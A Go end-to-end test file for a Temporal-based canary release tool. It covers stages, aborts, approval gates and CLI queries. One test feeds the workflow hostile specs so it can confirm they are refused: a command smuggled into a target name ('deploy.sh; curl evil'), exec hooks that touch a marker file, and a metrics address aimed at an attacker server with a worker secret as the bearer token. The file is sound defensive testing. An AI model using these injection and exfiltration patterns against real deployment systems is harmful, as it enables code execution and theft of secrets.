package e2e

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	enumspb "go.temporal.io/api/enums/v1"
	"go.temporal.io/sdk/temporal"

	"github.com/shepherd-release/shepherd/internal/cli"
	"github.com/shepherd-release/shepherd/record"
	"github.com/shepherd-release/shepherd/spec"
	"github.com/shepherd-release/shepherd/workflows"
)

// Every test runs in parallel in a namespace of its own, named after its service: workers all poll the
// task queue "shepherd", and in a shared namespace one test's worker would run another test's tasks
// (and the crash tests need to know which worker ran what).

// TestGoodRelease: `shepherd start --wait` drives a release through deploy, health, every stage in order
// and promotion, and exits 0.
func TestGoodRelease(t *testing.T) {
	const svc = "e2e-good"
	t.Parallel()
	e, id, log := newReleaseEnv(t, svc)

	f := writeJSON(t, "release.json", execRelease(svc,
		stage(10, time.Second), stage(50, time.Second), stage(100, time.Second)))
	r := e.shepherdCLI("start", "-f", f, "--wait")
	wantExit(t, r, cli.ExitOK)
	if !strings.Contains(r.stdout, "Release Succeeded: e2e-good v2 promoted in production") {
		t.Errorf("start --wait did not report the outcome:\n%s", r)
	}

	res := e.waitResult(svc, 10*time.Second)
	if res.Phase != record.PhaseSucceeded || res.Reason != "e2e-good v2 promoted in production" {
		t.Fatalf("result: %s", describe(res))
	}
	for _, s := range res.Stages {
		if s.Outcome != "passed" {
			t.Errorf("stage %d outcome %q, want passed", s.Number, s.Outcome)
		}
	}
	if res.TrafficPercent != 100 {
		t.Errorf("traffic %d%%, want 100", res.TrafficPercent)
	}
	wantLines(t, log, "deploy v2", "health v2", "traffic 10", "traffic 50", "traffic 100", "promote v2")
	e.keepHistory("good-release", id)
}

// TestAbortMidSoakWithTemporalSignal: an abort signal sent with the Temporal CLI during a soak sends
// traffic back to stable, then removes the canary; nothing is promoted.
func TestAbortMidSoakWithTemporalSignal(t *testing.T) {
	const svc = "e2e-abort"
	t.Parallel()
	e, id, log := newReleaseEnv(t, svc)

	f := writeJSON(t, "release.json", execRelease(svc,
		stage(10, time.Second), stage(50, 5*time.Minute), stage(100, time.Second)))
	wantExit(t, e.shepherdCLI("start", "-f", f), cli.ExitOK)
	e.waitStatus(svc, "soaking stage 2 at 50%", atStage(record.PhaseProgressing, 2, 50))

	r := e.temporalCLI("workflow", "signal", "--workflow-id", id, "--name", workflows.Abort,
		"--input", `{"by":"ci","reason":"test"}`)
	wantExit(t, r, 0)

	// Far sooner than the 5-minute soak would have ended.
	res := e.waitResult(svc, 20*time.Second)
	if res.Phase != record.PhaseRolledBack || res.Reason != "aborted by ci: test" {
		t.Fatalf("result: %s", describe(res))
	}
	if res.TrafficPercent != 0 {
		t.Errorf("traffic %d%% after rollback, want 0", res.TrafficPercent)
	}
	if !hasDecision(res, record.KindControl, "ci", "abort by ci") {
		t.Errorf("no abort decision by ci in the log: %+v", res.Decisions)
	}
	wantLines(t, log, "deploy v2", "health v2", "traffic 10", "traffic 50", "traffic 0", "rollback v2")

	// Not promoted, so the workflow failed (the web UI's list shows Failed, not Completed), with a typed
	// error carrying the record.
	r = e.temporalCLI("workflow", "result", "--workflow-id", id)
	wantExit(t, r, 1)
	if !strings.Contains(r.stdout, "FAILED") || !strings.Contains(r.stdout, "release rolled back: aborted by ci: test") {
		t.Errorf("temporal workflow result of a rolled-back release: %s", r)
	}
	r = e.temporalCLI("workflow", "result", "--workflow-id", id, "--output", "json")
	var out struct {
		Status     string `json:"status"`
		CloseEvent struct {
			Attrs struct {
				Failure struct {
					Info struct {
						Type         string          `json:"type"`
						NonRetryable bool            `json:"nonRetryable"`
						Details      []record.Status `json:"details"`
					} `json:"applicationFailureInfo"`
				} `json:"failure"`
			} `json:"workflowExecutionFailedEventAttributes"`
		} `json:"closeEvent"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &out); err != nil {
		t.Fatalf("temporal workflow result --output json: %v: %s", err, r)
	}
	info := out.CloseEvent.Attrs.Failure.Info
	if out.Status != "FAILED" || info.Type != workflows.ErrTypeRolledBack || !info.NonRetryable ||
		len(info.Details) != 1 || info.Details[0].Phase != record.PhaseRolledBack {
		t.Errorf("temporal workflow result --output json: status %s, failure %+v", out.Status, info)
	}
	e.findInList("ReleaseService='"+svc+"' AND ExecutionStatus='Failed'", id, "WORKFLOW_EXECUTION_STATUS_FAILED")
	e.keepHistory("abort", id)
}

// TestApprovalGates: a gate holds traffic until approved; `shepherd approve` with the wrong stage is
// rejected (exit 5) and changes nothing; the right stage passes it; the Temporal CLI approves as an update
// and as a signal.
func TestApprovalGates(t *testing.T) {
	const svc = "e2e-approval"
	t.Parallel()
	e, id, log := newReleaseEnv(t, svc)

	f := writeJSON(t, "release.json", execRelease(svc,
		stage(10, time.Second), gated(25, time.Second), gated(50, time.Second), gated(100, time.Second)))
	wantExit(t, e.shepherdCLI("start", "-f", f), cli.ExitOK)

	e.waitStatus(svc, "stage 2 awaiting approval", atStage(record.PhaseAwaitingApproval, 2, 25))
	wantLines(t, log, "deploy v2", "health v2", "traffic 10")

	// Wrong stage: rejected by the update's validator, with the reason, and exit code 5.
	r := e.shepherdCLI("approve", svc, "--stage", "3", "--by", "ci")
	wantExit(t, r, cli.ExitRejected)
	if want := "approve rejected: approve is for stage 3, but the release is at stage 2 of 4 (25%)"; !strings.Contains(r.stderr, want) {
		t.Errorf("rejection message: want %q in\n%s", want, r)
	}
	// The same mistake through the Temporal CLI's update is refused too.
	r = e.temporalCLI("workflow", "update", "execute", "--name", workflows.Approve, "-w", id, "-i", `{"by":"ci","stage":3}`)
	if r.code == 0 || !strings.Contains(r.stderr, "approve is for stage 3") {
		t.Errorf("temporal workflow update execute for the wrong stage: want a refusal naming the stage, got %s", r)
	}
	if st, err := e.status(svc); err != nil || st.Phase != record.PhaseAwaitingApproval || st.Stage.Approved {
		t.Fatalf("a rejected approval changed the release: %s (%v)", describe(st), err)
	}

	// Stage 2: approved with the shepherd CLI (an update).
	r = e.shepherdCLI("approve", svc, "--stage", "2", "--by", "ci", "--comment", "dashboards fine")
	wantExit(t, r, cli.ExitOK)
	if want := "approve: stage 2 approved by ci"; !strings.Contains(r.stdout, want) {
		t.Errorf("approve output: want %q in\n%s", want, r)
	}

	// Stage 3: approved with `temporal workflow update execute`.
	e.waitStatus(svc, "stage 3 awaiting approval", atStage(record.PhaseAwaitingApproval, 3, 50))
	r = e.temporalCLI("workflow", "update", "execute", "--name", workflows.Approve, "-w", id, "-i", `{"by":"ci","stage":3}`)
	wantExit(t, r, 0)
	if !strings.Contains(r.stdout, "stage 3 approved by ci") {
		t.Errorf("update result: want the workflow's answer in\n%s", r)
	}

	// Stage 4: a signal for the wrong stage is delivered but rejected in the decision log; then the
	// gate is approved with `temporal workflow signal`.
	e.waitStatus(svc, "stage 4 awaiting approval", atStage(record.PhaseAwaitingApproval, 4, 100))
	r = e.temporalCLI("workflow", "signal", "--name", workflows.Approve, "--workflow-id", id, "--input", `{"by":"ci","stage":9}`)
	wantExit(t, r, 0)
	e.waitStatus(svc, "the wrong-stage signal to be recorded as rejected", func(st record.Status) bool {
		return st.Phase == record.PhaseAwaitingApproval &&
			hasDecision(st, record.KindRejection, "ci", "approve signal rejected: approve is for stage 9, but the release is at stage 4 of 4 (100%)")
	})
	r = e.temporalCLI("workflow", "signal", "--name", workflows.Approve, "--workflow-id", id, "--input", `{"by":"ci","stage":4}`)
	wantExit(t, r, 0)

	res := e.waitResult(svc, 20*time.Second)
	if res.Phase != record.PhaseSucceeded {
		t.Fatalf("result: %s", describe(res))
	}
	for n := 2; n <= 4; n++ {
		if !hasDecision(res, record.KindApproval, "ci", "stage "+strconv.Itoa(n)+" approved by ci") {
			t.Errorf("no approval decision for stage %d: %+v", n, res.Decisions)
		}
	}
	wantLines(t, log, "deploy v2", "health v2", "traffic 10", "traffic 25", "traffic 50", "traffic 100", "promote v2")
	h := e.keepHistory("approval", id)
	// Four updates were sent; the two the validator rejected left nothing in the history.
	if n := countEvents(h, enumspb.EVENT_TYPE_WORKFLOW_EXECUTION_UPDATE_ACCEPTED, ""); n != 2 {
		t.Errorf("%d updates accepted in the history, want 2 (the rejected ones leave no events)", n)
	}
	if n := countEvents(h, enumspb.EVENT_TYPE_WORKFLOW_EXECUTION_SIGNALED, ""); n != 2 {
		t.Errorf("%d signals in the history, want 2", n)
	}
}

// TestSecondReleaseRefused: while a release of a service runs, neither `shepherd start` nor a raw
// `temporal workflow start` under the release's workflow ID starts a second one.
func TestSecondReleaseRefused(t *testing.T) {
	const svc = "e2e-concurrent"
	t.Parallel()
	e, id, log := newReleaseEnv(t, svc)

	first := execRelease(svc, stage(50, 5*time.Minute), stage(100, time.Second))
	wantExit(t, e.shepherdCLI("start", "-f", writeJSON(t, "v2.json", first)), cli.ExitOK)
	active := e.waitStatus(svc, "soaking stage 1", atStage(record.PhaseProgressing, 1, 50))
	firstRun := strings.TrimPrefix(active.ReleaseID, id+"/") // the release ID is "<workflow ID>/<run ID>"

	second := first
	second.Version = "v3"
	v3 := writeJSON(t, "v3.json", second)
	r := e.shepherdCLI("start", "-f", v3)
	wantExit(t, r, cli.ExitRejected)
	for _, want := range []string{
		"a release is already active for e2e-concurrent in production",
		"workflow release:e2e-concurrent:production",
		"version v2, phase Progressing at stage 1/2 (50%)",
	} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("refusal does not name the active release: want %q in\n%s", want, r)
		}
	}

	// The server refuses a second start under the release's workflow ID. With --fail-existing the Temporal
	// CLI says so and fails; without it, it prints the running release's run ID and exits 0 (the SDK's
	// default), which starts nothing either.
	r = e.temporalCLI("workflow", "start", "--type", workflows.ReleaseWorkflow, "--task-queue", workflows.TaskQueue,
		"--workflow-id", id, "--input-file", v3, "--fail-existing")
	if r.code == 0 || !strings.Contains(r.stderr, "already") {
		t.Errorf("temporal workflow start --fail-existing of a second release: want a refusal, got %s", r)
	}
	r = e.temporalCLI("workflow", "start", "--type", workflows.ReleaseWorkflow, "--task-queue", workflows.TaskQueue,
		"--workflow-id", id, "--input-file", v3)
	wantExit(t, r, 0)
	if !strings.Contains(r.stdout, firstRun) {
		t.Errorf("temporal workflow start of a second release: want it to name the running release's run %s, got %s", firstRun, r)
	}
	running := "WorkflowId='" + id + "' AND ExecutionStatus='Running'"
	e.findInList(running, id, "WORKFLOW_EXECUTION_STATUS_RUNNING")
	if n := e.countRuns(running); n != 1 {
		t.Errorf("%d running releases under %s, want 1", n, id)
	}

	// End the first one with an abort update from the Temporal CLI.
	r = e.temporalCLI("workflow", "update", "execute", "--name", workflows.Abort, "-w", id, "-i", `{"by":"ci","reason":"cleanup"}`)
	wantExit(t, r, 0)
	res := e.waitResult(svc, 20*time.Second)
	if res.Phase != record.PhaseRolledBack || res.Reason != "aborted by ci: cleanup" || res.Version != "v2" {
		t.Fatalf("result: %s (version %s)", describe(res), res.Version)
	}
	wantLines(t, log, "deploy v2", "health v2", "traffic 50", "traffic 0", "rollback v2")
}

// TestRawStartsThatMustFail: what the Temporal CLI lets through and the workflow must refuse: a spec
// under the wrong workflow ID (it would escape the one-active-release rule), an invalid spec, and an
// input that does not decode. Each fails at once, changes nothing, and is not retried.
func TestRawStartsThatMustFail(t *testing.T) {
	t.Parallel()
	e := newEnv(t, "e2e-raw-starts")
	dir := t.TempDir()
	e.provide("targets", e2eTarget, execTarget(filepath.Join(dir, "release.log")))
	e.startWorker(t.TempDir())
	// An address the attacker controls: it must never hear from the worker.
	var exfiltrated atomic.Int32
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		exfiltrated.Add(1)
		t.Errorf("the attacker's server received %s %s with Authorization %q", r.Method, r.URL, r.Header.Get("Authorization"))
	}))
	defer attacker.Close()
	pwned := filepath.Join(dir, "pwned")

	cases := []struct {
		name, workflowID string
		input            any
		wantType         string
		wantMessage      []string
		// preflight is true when the refusal comes from the worker's preflight (an activity), which
		// alone knows the worker configuration.
		preflight bool
	}{
		{
			name:        "wrong workflow ID",
			workflowID:  "e2e-wrong-id",
			input:       execRelease("e2e-wrongid", stage(100, time.Second)),
			wantType:    workflows.ErrTypeInvalidSpec,
			wantMessage: []string{`workflow ID "e2e-wrong-id"`, `must run as workflow ID "release:e2e-wrongid:production"`},
		},
		{
			name:       "invalid spec",
			workflowID: spec.WorkflowID("e2e-invalid", envName),
			input: func() spec.Release {
				r := execRelease("e2e-invalid", stage(50, time.Second))
				r.Target = "deploy.sh; curl evil"
				return r
			}(),
			wantType:    workflows.ErrTypeInvalidSpec,
			wantMessage: []string{"invalid release spec (2 problems)", `target: "deploy.sh; curl evil" is not a provider name`, "the last stage must be 100"},
		},
		{
			// Remote code execution on every worker, as specs could do before named providers.
			name:       "commands in the spec",
			workflowID: spec.WorkflowID("e2e-rce", envName),
			input: map[string]any{
				"service": "e2e-rce", "version": "v2",
				"target": map[string]any{"type": "exec", "exec": map[string]any{
					"deploy": "touch " + shellQuote(pwned), "traffic": "touch " + shellQuote(pwned),
					"promote": "true", "rollback": "touch " + shellQuote(pwned),
				}},
				"stages": []any{map[string]any{"percent": 100, "soak": "1s"}}, "analysis": map[string]any{"disabled": true},
			},
			wantType:    workflows.ErrTypeInvalidSpec,
			wantMessage: []string{"target: a spec no longer describes its target"},
		},
		{
			// Secret exfiltration: a worker variable as a bearer token, sent to the attacker's address.
			name:       "credentials and an address in the spec",
			workflowID: spec.WorkflowID("e2e-exfiltrate", envName),
			input: map[string]any{
				"service": "e2e-exfiltrate", "version": "v2", "target": e2eTarget,
				"stages": []any{map[string]any{"percent": 100, "soak": "5s"}},
				"analysis": map[string]any{"interval": "1s",
					"prometheus": map[string]any{"address": attacker.URL, "bearerTokenEnv": "TEMPORAL_NAMESPACE"}},
			},
			wantType:    workflows.ErrTypeInvalidSpec,
			wantMessage: []string{"analysis.prometheus: a spec no longer gives metrics addresses or credentials"},
		},
		{
			name:       "providers the worker lacks",
			workflowID: spec.WorkflowID("e2e-unknown-names", envName),
			input: map[string]any{
				"service": "e2e-unknown-names", "version": "v2", "target": "k8s-prod",
				"stages": []any{map[string]any{"percent": 100, "soak": "1s"}}, "analysis": map[string]any{"source": "thanos"},
				"notifications": []any{"releases-slack"},
			},
			wantType: workflows.ErrTypeInvalidSpec,
			wantMessage: []string{`target: this worker has no target named "k8s-prod": it has "e2e"`,
				`analysis.source: this worker has no metrics source named "thanos": its configuration declares none`,
				`notifications[0]: this worker has no notification channel named "releases-slack"`},
			preflight: true,
		},
		{
			name:       "undecodable input",
			workflowID: spec.WorkflowID("e2e-undecodable", envName),
			input: map[string]any{
				"service": "e2e-undecodable", "version": "v2",
				"target": e2eTarget,
				"stages": []any{map[string]any{"percent": 100, "soak": 5}}, // a number, not "5s"
			},
			wantMessage: []string{`want a duration string such as "15m" or "30s", got 5`},
			wantType:    workflows.ErrTypeInvalidSpec,
		},
		{
			name:       "misspelt key",
			workflowID: spec.WorkflowID("e2e-misspelt", envName),
			input: map[string]any{
				"service": "e2e-misspelt", "version": "v2",
				"target": e2eTarget,
				"stages": []any{map[string]any{"percent": 100, "soak": "1s", "aproval": true}},
			},
			wantMessage: []string{`unknown key "aproval"`},
			wantType:    workflows.ErrTypeInvalidSpec,
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			e := e.with(t)
			e.terminateOnCleanup(t, c.workflowID)
			in := writeJSON(t, "release.json", c.input)
			r := e.temporalCLI("workflow", "start", "--type", workflows.ReleaseWorkflow, "--task-queue", workflows.TaskQueue,
				"--workflow-id", c.workflowID, "--input-file", in)
			wantExit(t, r, 0) // the server accepts the start; the workflow refuses the release

			ctx, cancel := context.WithTimeout(context.Background(), phaseTimeout)
			defer cancel()
			err := e.client.GetWorkflow(ctx, c.workflowID, "").Get(ctx, nil)
			if err == nil {
				t.Fatal("the release did not fail")
			}
			if ctx.Err() != nil {
				t.Fatalf("the release did not end within %s: %v", phaseTimeout, err)
			}
			for _, want := range c.wantMessage {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("failure: want %q in %v", want, err)
				}
			}
			if c.wantType != "" {
				var appErr *temporal.ApplicationError
				if !errors.As(err, &appErr) || appErr.Type() != c.wantType || !appErr.NonRetryable() {
					t.Errorf("failure: want a non-retryable ApplicationError of type %s, got %#v", c.wantType, err)
				}
			}
			d, err := e.client.DescribeWorkflow(ctx, c.workflowID, "")
			if err != nil {
				t.Fatal(err)
			}
			if got := d.RawResponse.GetWorkflowExecutionInfo().GetStatus(); got != enumspb.WORKFLOW_EXECUTION_STATUS_FAILED {
				t.Errorf("status %s, want FAILED", got)
			}
			// Failed on its first workflow task, not retried: no failed or timed-out workflow tasks.
			for _, ev := range e.history(t, c.workflowID, "").Events {
				if ev.GetEventType() == enumspb.EVENT_TYPE_WORKFLOW_TASK_FAILED || ev.GetEventType() == enumspb.EVENT_TYPE_WORKFLOW_TASK_TIMED_OUT {
					t.Errorf("history has %s: the refusal was retried", ev.GetEventType())
				}
				if ev.GetEventType() == enumspb.EVENT_TYPE_ACTIVITY_TASK_SCHEDULED {
					name := ev.GetActivityTaskScheduledEventAttributes().GetActivityType().GetName()
					if !(c.preflight && (name == workflows.ActivityPreflight || name == workflows.ActivityNotify || name == workflows.ActivityArchive)) {
						t.Errorf("history schedules activity %s: something ran", name)
					}
				}
			}
		})
	}
	if _, err := os.Stat(pwned); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a command from a spec ran on the worker (%s exists)", pwned)
	}
	if n := exfiltrated.Load(); n != 0 {
		t.Errorf("the attacker's address received %d requests", n)
	}
	if lines := lines(t, filepath.Join(dir, "release.log")); len(lines) != 0 {
		t.Errorf("the worker's target changed something: %q", lines)
	}
	for _, name := range []string{"wrong-id.log", "invalid.log", "undecodable.log", "misspelt.log"} {
		wantLines(t, filepath.Join(dir, name))
	}
}

// TestTemporalCLIStartQueryList: the workflow as the Temporal CLI sees it: started from a JSON spec with
// `temporal workflow start`, read with `temporal workflow query --name status`, found with
// `temporal workflow list --query` over the release search attributes, approved with a signal.
func TestTemporalCLIStartQueryList(t *testing.T) {
	const svc = "e2e-temporal-cli"
	t.Parallel()
	e, id, log := newReleaseEnv(t, svc)

	in := writeJSON(t, "release.json", execRelease(svc, gated(50, time.Second), stage(100, time.Second)))
	r := e.temporalCLI("workflow", "start", "--task-queue", workflows.TaskQueue, "--type", workflows.ReleaseWorkflow,
		"--workflow-id", id, "--input-file", in)
	wantExit(t, r, 0)

	var st record.Status
	eventually(t, phaseTimeout, "status query answering AwaitingApproval", func() (bool, string) {
		r := e.temporalCLI("workflow", "query", "--workflow-id", id, "--name", workflows.StatusQuery, "--output", "json")
		if r.code != 0 {
			return false, r.String()
		}
		var out struct {
			QueryResult []record.Status `json:"queryResult"`
		}
		if err := json.Unmarshal([]byte(r.stdout), &out); err != nil || len(out.QueryResult) != 1 {
			return false, r.stdout
		}
		st = out.QueryResult[0]
		return st.Phase == record.PhaseAwaitingApproval, describe(st)
	})
	if st.Service != svc || st.Version != "v2" || st.WorkflowID != id || st.Stage == nil || st.Stage.Number != 1 {
		t.Errorf("status: %+v", st)
	}

	e.findInList("ReleaseService='"+svc+"'", id, "WORKFLOW_EXECUTION_STATUS_RUNNING")
	e.findInList("ReleaseService='"+svc+"' AND ReleasePhase='AwaitingApproval'", id, "WORKFLOW_EXECUTION_STATUS_RUNNING")

	r = e.temporalCLI("workflow", "signal", "--workflow-id", id, "--name", workflows.Approve, "--input", `{"by":"ci"}`)
	wantExit(t, r, 0)
	r = e.temporalCLI("workflow", "result", "--workflow-id", id)
	wantExit(t, r, 0)
	if !strings.Contains(r.stdout, "COMPLETED") {
		t.Errorf("temporal workflow result: %s", r)
	}
	res := e.waitResult(svc, 5*time.Second)
	if res.Phase != record.PhaseSucceeded {
		t.Fatalf("result: %s", describe(res))
	}
	e.findInList("ReleaseService='"+svc+"' AND ReleasePhase='Succeeded'", id, "WORKFLOW_EXECUTION_STATUS_COMPLETED")
	wantLines(t, log, "deploy v2", "health v2", "traffic 50", "traffic 100", "promote v2")
	e.keepHistory("temporal-cli", id)
}

// listRow is one execution in `temporal workflow list --output json`.
type listRow struct {
	Execution struct {
		WorkflowID string `json:"workflowId"`
		RunID      string `json:"runId"`
	} `json:"execution"`
	Status string `json:"status"`
}

// list runs `temporal workflow list --query q --output json`.
func (e *tenv) list(q string) ([]listRow, string, error) {
	t := e.t
	t.Helper()
	r := e.temporalCLI("workflow", "list", "--query", q, "--output", "json")
	if r.code != 0 {
		return nil, r.String(), errors.New("temporal workflow list failed")
	}
	var rows []listRow
	if err := json.Unmarshal([]byte(r.stdout), &rows); err != nil {
		return nil, r.stdout, err
	}
	return rows, r.stdout, nil
}

// findInList polls `temporal workflow list --query q` (visibility is eventually consistent) until it
// shows the workflow in the wanted status.
func (e *tenv) findInList(q, workflowID, wantStatus string) {
	t := e.t
	t.Helper()
	eventually(t, phaseTimeout, "workflow list --query "+q+" to show "+workflowID, func() (bool, string) {
		rows, out, err := e.list(q)
		if err != nil {
			return false, err.Error() + ": " + out
		}
		for _, row := range rows {
			if row.Execution.WorkflowID == workflowID && row.Status == wantStatus {
				return true, ""
			}
		}
		return false, out
	})
}

// countRuns counts the executions a visibility query finds.
func (e *tenv) countRuns(q string) int {
	t := e.t
	t.Helper()
	rows, out, err := e.list(q)
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return len(rows)
}

func hasDecision(st record.Status, kind record.DecisionKind, by, message string) bool {
	for _, d := range st.Decisions {
		if d.Kind == kind && d.By == by && strings.Contains(d.Message, message) {
			return true
		}
	}
	return false
}
